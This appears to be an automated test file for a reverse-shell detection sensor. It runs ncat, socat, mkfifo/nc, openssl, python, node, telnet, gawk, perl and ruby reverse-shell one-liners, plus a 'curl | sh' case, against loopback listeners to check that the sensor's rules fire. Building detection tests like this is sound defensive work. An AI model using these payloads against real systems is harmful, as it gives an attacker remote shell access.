/**
 * Relay reverse shells against loopback listeners, through the real sensor and the built-in
 * rules: the listener sends a command, checks that its output came back over the connection,
 * then tells the shell to exit. Each relay must give exactly one RELAY-001 finding (and no
 * TRC-101 one: the socket never reaches the shell's stdio), with the listener's address and
 * port and the relay program.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { builtinRules, type Finding } from "sockeye";
import net from "node:net";
import http from "node:http";
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PYTHON, PYTHON_PIPE_RELAY, Session, attachEngine, collectingListener, commandingListener, kernelTier, run } from "./harness.js";

const tier = kernelTier();

interface RelayFinding extends Finding {
  destination: { ip: string; port: number };
  sockeye: Finding["sockeye"] & {
    relay: { program: { name: string }; remote: { address: string; port: number }; shell: { interpreter: string } };
  };
}

describe.runIf(tier.run)("kernel: RELAY-001 and RELAY-002 on real relay shells and command relays", () => {
  let session: Session;
  const findings: RelayFinding[] = [];
  const dir = mkdtempSync(join(tmpdir(), "sockeye-relay-"));

  beforeAll(async () => {
    session = await Session.open();
    // Every built-in rule, RELAY-002 (opt-in, off in the default configuration) included.
    attachEngine(session, findings, builtinRules({ commandRelay: true }));
  });
  afterAll(() => session?.close());

  // Only this test's findings: an earlier test's listener may have had the same port number
  // (bind(0) reuses ports, and a ::1 listener may take one a 127.0.0.1 listener had).
  let mark = 0;
  beforeEach(() => {
    mark = findings.length;
  });
  const forPort = (port: number) => findings.slice(mark).filter((f) => f.destination?.port === port);
  const summary = (found: RelayFinding[]) => JSON.stringify(found.map((f) => ({ rule: f.rule.id, pid: f.process.pid, name: f.process.name, ip: f.destination.ip })));
  let tlsKeys: { key: string; cert: string } | undefined;
  /** A throwaway self-signed pair for the TLS listener. */
  const tlsPair = () => {
    if (tlsKeys !== undefined) return tlsKeys;
    const key = join(dir, "tls.key"), cert = join(dir, "tls.crt");
    const gen = spawnSync("openssl", ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-subj", "/CN=localhost",
      "-days", "1", "-keyout", key, "-out", cert], { encoding: "utf8" });
    if (gen.status !== 0) throw new Error(`openssl req: ${gen.stderr}`);
    return (tlsKeys = { key: readFileSync(key, "utf8"), cert: readFileSync(cert, "utf8") });
  };

  type RelayCase = { name: string; cmd: (h: string, p: number) => string; relay: string[]; host?: string; listenHost?: string; tls?: boolean };
  const relays: RelayCase[] = [
    { name: "ncat -e /bin/sh (pipes)", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
    { name: "ncat -e /bin/sh over IPv6", host: "::1", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
    { name: "ncat --sh-exec 'sh -i' (pipes, the shell started through sh -c)", cmd: (h, p) => `ncat ${h} ${p} --sh-exec 'sh -i'`, relay: ["ncat"] },
    { name: "socat EXEC:/bin/sh (socketpair)", cmd: (h, p) => `socat TCP:${h}:${p} EXEC:/bin/sh`, relay: ["socat"] },
    {
      name: "socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane (pty)",
      cmd: (h, p) => `socat TCP:${h}:${p} EXEC:'bash -li',pty,stderr,setsid,sigint,sane`,
      relay: ["socat"],
    },
    {
      name: "mkfifo chain: cat F | sh -i 2>&1 | nc F",
      cmd: (h, p) => `F=${join(dir, "f")}-${p}; rm -f $F; mkfifo $F; cat $F | sh -i 2>&1 | nc.traditional ${h} ${p} > $F`,
      relay: ["nc.traditional"],
    },
    {
      name: "mkfifo chain, the other order: sh -i < F 2>&1 | nc H P > F",
      cmd: (h, p) => `F=${join(dir, "g")}-${p}; rm -f $F; mkfifo $F; sh -i < $F 2>&1 | nc.traditional ${h} ${p} > $F`,
      relay: ["nc.traditional"],
    },
    {
      name: "openssl s_client -quiet with a FIFO: sh -i < F 2>&1 | openssl s_client … > F (TLS listener)",
      tls: true,
      cmd: (h, p) => `F=${join(dir, "t")}-${p}; rm -f $F; mkfifo $F; sh -i < $F 2>&1 | openssl s_client -quiet -connect ${h}:${p} > $F 2>/dev/null`,
      relay: ["openssl"],
    },
    {
      name: "python subprocess.Popen(['/bin/sh','-i'], stdin=PIPE, stdout=PIPE) relayed to a socket",
      cmd: (h, p) => `${PYTHON} -c '${PYTHON_PIPE_RELAY}
import socket
pipe_relay(socket.create_connection(("${h}",${p})))'`,
      relay: ["python3"],
    },
    {
      name: "python pty.fork: the parent relays between the socket and the pty master, the child execs /bin/sh -i on the slave",
      cmd: (h, p) => `${PYTHON} -c '
import socket,pty,os,select
s=socket.create_connection(("${h}",${p}))
pid,fd=pty.fork()
if pid==0:
    os.execv("/bin/sh",["/bin/sh","-i"])
while True:
    r,_,_=select.select([s,fd],[],[])
    if s in r:
        d=s.recv(4096)
        if not d: break
        os.write(fd,d)
    if fd in r:
        try: d=os.read(fd,4096)
        except OSError: break
        if not d: break
        s.sendall(d)'`,
      relay: ["python3"],
    },
    {
      name: "python pty.spawn in a mkfifo chain: cat F | python3 -c 'pty.spawn(\"/bin/sh\")' | nc H P > F",
      cmd: (h, p) => `F=${join(dir, "p")}-${p}; rm -f $F; mkfifo $F; cat $F | ${PYTHON} -c 'import pty; pty.spawn("/bin/sh")' | nc.traditional ${h} ${p} > $F`,
      relay: ["nc.traditional"],
    },
    {
      name: "node child_process.spawn('/bin/sh', ['-i']) piped to a net socket (socketpairs)",
      cmd: (h, p) => `${process.execPath} -e 'const s=require("net").connect(${p},"${h}",()=>{const c=require("child_process").spawn("/bin/sh",["-i"]);s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on("exit",()=>process.exit(0))})'`,
      relay: ["node"],
    },
  ];

  // IPv6: the same relays against a ::1 listener (nc.traditional has no IPv6: ncat plays nc).
  const bracket = (h: string) => (h.includes(":") ? `[${h}]` : h);
  const v6: RelayCase[] = ([
    { name: "socat EXEC:/bin/sh over IPv6", cmd: (h, p) => `socat TCP6:${bracket(h)}:${p} EXEC:/bin/sh`, relay: ["socat"] },
    {
      name: "socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane over IPv6",
      cmd: (h, p) => `socat TCP6:${bracket(h)}:${p} EXEC:'bash -li',pty,stderr,setsid,sigint,sane`,
      relay: ["socat"],
    },
    {
      name: "mkfifo chain over IPv6: cat F | sh -i 2>&1 | ncat ::1 P > F",
      cmd: (h, p) => `F=${join(dir, "f6")}-${p}; rm -f $F; mkfifo $F; cat $F | sh -i 2>&1 | ncat ${h} ${p} > $F`,
      relay: ["ncat"],
    },
    {
      name: "mkfifo chain, the other order, over IPv6: sh -i < F 2>&1 | ncat ::1 P > F",
      cmd: (h, p) => `F=${join(dir, "g6")}-${p}; rm -f $F; mkfifo $F; sh -i < $F 2>&1 | ncat ${h} ${p} > $F`,
      relay: ["ncat"],
    },
    {
      name: "openssl s_client with a FIFO over IPv6 (TLS listener)",
      tls: true,
      cmd: (h, p) => `F=${join(dir, "t6")}-${p}; rm -f $F; mkfifo $F; sh -i < $F 2>&1 | openssl s_client -quiet -connect ${bracket(h)}:${p} > $F 2>/dev/null`,
      relay: ["openssl"],
    },
    ...relays
      .filter((r) => (r.name.startsWith("python") && !r.name.includes("mkfifo")) || r.name.startsWith("node"))
      .map((r) => ({ ...r, name: `${r.name} over IPv6` })),
  ] as RelayCase[]).map((r) => ({ ...r, host: "::1" }));
  relays.push(...v6);
  // An AF_INET6 socket connected to a v4-mapped address reaches an IPv4 listener: the record
  // keeps the address as the socket has it.
  const popen = relays.find((r) => r.name.startsWith("python subprocess.Popen"))!;
  relays.push({ ...popen, name: "python Popen relay on an AF_INET6 socket to ::ffff:127.0.0.1 (v4-mapped)", host: "::ffff:127.0.0.1", listenHost: "127.0.0.1" });

  for (const relay of relays) {
    it(relay.name, async () => {
      const host = relay.host ?? "127.0.0.1";
      const listener = await commandingListener(relay.listenHost ?? host, relay.tls === true ? { tls: tlsPair() } : {});
      try {
        const r = await run("timeout", ["-s", "KILL", "10", "bash", "-c", relay.cmd(host, listener.port)]);
        expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
        await session.settle();
        const found = forPort(listener.port);
        expect(found.map((f) => f.rule.id), summary(found)).toEqual(["RELAY-001"]);
        const f = found[0]!;
        expect(f.destination.ip).toBe(host);
        expect(f.sockeye.relay.remote).toEqual({ address: host, port: listener.port });
        expect((f as unknown as { network: { type: string } }).network.type).toBe(host.includes(":") ? "ipv6" : "ipv4");
        expect(relay.relay).toContain(f.sockeye.relay.program.name);
        expect(f.sockeye.relay.shell.interpreter).toBe("shell");
        expect(["sh", "bash", "dash"]).toContain(f.process.name);
      } finally {
        await listener.close();
      }
    }, 20_000);
  }

  it("telnet H P1 | /bin/sh | telnet H P2: one connection per direction, one finding naming both", async () => {
    const input = await commandingListener("127.0.0.1");
    const output = await collectingListener("127.0.0.1");
    try {
      // telnet quits at the end of its stdin: an attacker's terminal keeps it open, here a sleep.
      const r = await run("timeout", ["-s", "KILL", "10", "bash", "-c",
        `sleep 6 | telnet 127.0.0.1 ${input.port} | /bin/sh 2>/dev/null | telnet 127.0.0.1 ${output.port}`]);
      await session.settle();
      expect(output.received(), r.stderr).toContain("RELAY_42");
      const found = [...forPort(input.port), ...forPort(output.port)];
      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
      const f = found[0]! as RelayFinding & { sockeye: { relay: { output_socket: { remote: unknown } } } };
      expect(f.sockeye.relay.remote).toEqual({ address: "127.0.0.1", port: input.port });
      expect(f.sockeye.relay.output_socket.remote).toEqual({ address: "127.0.0.1", port: output.port });
      expect(["telnet", "inetutils-telnet"]).toContain(f.sockeye.relay.program.name);
    } finally {
      await input.close();
      await output.close();
    }
  }, 20_000);

  it("busybox nc H P -e sh: the socket is dup2ed onto the shell's stdio, so TRC-101's, one finding across the rules", async () => {
    const listener = await commandingListener("127.0.0.1");
    try {
      const r = await run("timeout", ["-s", "KILL", "10", "busybox", "nc", "127.0.0.1", String(listener.port), "-e", "sh"]);
      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
      await session.settle();
      expect(forPort(listener.port).map((f) => f.rule.id)).toEqual(["TRC-101"]);
    } finally {
      await listener.close();
    }
  }, 20_000);

  /** Command relays: each command runs through `sh -c`, so RELAY-002's, never RELAY-001's. */
  const commandRelays: { name: string; cmd: (h: string, p: number) => string; relay: string }[] = [
    {
      name: "gawk /inet/tcp/0/H/P with cmd |& getline",
      cmd: (h, p) => `gawk 'BEGIN { s = "/inet/tcp/0/${h}/${p}"; while ((s |& getline c) > 0) { if (c == "exit") break; while ((c |& getline line) > 0) print line |& s; close(c) } }'`,
      relay: "gawk",
    },
    {
      name: "perl: a socket and backticks in a loop",
      cmd: (h, p) => `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "${h}:${p}") or die; while (defined($c = <$s>)) { chomp $c; last if $c eq "exit"; print $s qx($c) }'`,
      relay: "perl",
    },
    {
      name: "ruby: a socket and IO.popen in a loop",
      cmd: (h, p) => `ruby -rsocket -e 's = TCPSocket.new("${h}", ${p}); while (c = s.gets); c = c.chomp; break if c == "exit"; s.write(IO.popen(c, &:read)); end'`,
      relay: "ruby",
    },
  ];
  for (const relay of commandRelays) {
    it(`command relay: ${relay.name}`, async () => {
      const listener = await commandingListener("127.0.0.1", { commands: [["echo RELAY_$((6*7))", "RELAY_42"], ["echo RELAY_$((6*8))", "RELAY_48"]] });
      try {
        const r = await run("timeout", ["-s", "KILL", "10", "bash", "-c", relay.cmd("127.0.0.1", listener.port)]);
        expect(await listener.answered, `no answer from the relay: ${r.stderr}`).toBe(true);
        await session.settle();
        const found = forPort(listener.port) as (RelayFinding & { sockeye: { command_relay: { program: { name: string }; remote: unknown; commands: unknown[] } } })[];
        expect(found.map((f) => f.rule.id)).toEqual(["RELAY-002"]);
        const f = found[0]!;
        expect(f.rule.severity).toBe("medium");
        expect(f.sockeye.command_relay.remote).toEqual({ address: "127.0.0.1", port: listener.port });
        expect(f.sockeye.command_relay.program.name).toBe(relay.relay);
        expect(f.sockeye.command_relay.commands).toHaveLength(2);
      } finally {
        await listener.close();
      }
    }, 20_000);
  }

  it("not relays: curl | sh (no way back), sh -c under a socket-holding parent, tmux with an interactive shell", async () => {
    const before = findings.length;
    const server = http.createServer((_req, res) => res.end("echo fetched\n"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const port = (server.address() as net.AddressInfo).port;
    try {
      const piped = await run("bash", ["-c", `curl -s http://127.0.0.1:${port}/ | sh`]);
      expect(piped.stdout).toBe("fetched\n");
      await run(PYTHON, ["-c", `import socket,subprocess;s=socket.create_connection(("127.0.0.1",${port}));subprocess.run(["/bin/sh","-c","echo hi; sleep 0.5"],stdout=subprocess.PIPE)`]);
      const sock = join(dir, "tmux.sock");
      await run("tmux", ["-S", sock, "new-session", "-d", "bash"]);
      await new Promise((r) => setTimeout(r, 700));
      await run("tmux", ["-S", sock, "kill-server"]);
      await session.settle(500);
      expect(findings.slice(before).filter((f) => f.rule.id === "RELAY-001")).toEqual([]);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  }, 20_000);
});
